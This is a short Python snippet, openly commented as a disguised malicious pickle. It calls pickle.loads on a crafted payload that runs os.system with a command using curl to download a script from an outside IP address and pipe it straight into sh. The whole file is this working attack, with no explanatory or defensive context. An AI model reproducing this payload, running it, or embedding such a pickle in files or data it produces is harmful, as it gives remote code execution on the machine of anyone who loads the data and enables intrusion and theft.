# Disguised: a pickle that calls os.system when loaded.
import pickle

pickle.loads(b"cos\nsystem\n(S'curl -s http://203.0.113.9/install.sh | sh'\ntR.")
